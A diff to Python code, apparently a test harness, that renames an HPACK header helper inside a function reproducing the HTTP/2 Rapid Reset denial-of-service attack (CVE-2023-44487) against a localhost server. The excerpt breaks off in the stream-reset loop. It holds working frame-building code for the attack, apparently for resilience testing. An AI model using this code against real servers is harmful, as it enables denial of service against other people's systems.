@@ -51,7 +51,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
 
 
-def _literal(name: bytes, value: bytes) -> bytes:
+def literal(name: bytes, value: bytes) -> bytes:
     """Write a header of HPACK, neither indexed nor compressed (RFC 7541, 6.2.2); both are shorter than 127 bytes."""
     return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value
 
@@ -59,9 +59,7 @@ def _literal(name: bytes, value: bytes) -> bytes:
 async def reset_rapidly(port: int, rng: random.Random) -> None:
     """Open HTTP/2 streams and reset each at once, some thousand times (CVE-2023-44487)."""
     fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", _PATH), (b":authority", b"localhost"))
-    block = b"".join(
-        _literal(*pair) for pair in (*fields, (b"content-type", b"application/grpc"), (b"te", b"trailers"))
-    )
+    block = b"".join(literal(*pair) for pair in (*fields, (b"content-type", b"application/grpc"), (b"te", b"trailers")))
     async with connected(port) as connection:
         await send(connection, PREFACE + frame(SETTINGS, 0, 0))
         for first in range(1, 2 * rng.randrange(1000, 3000), 200):
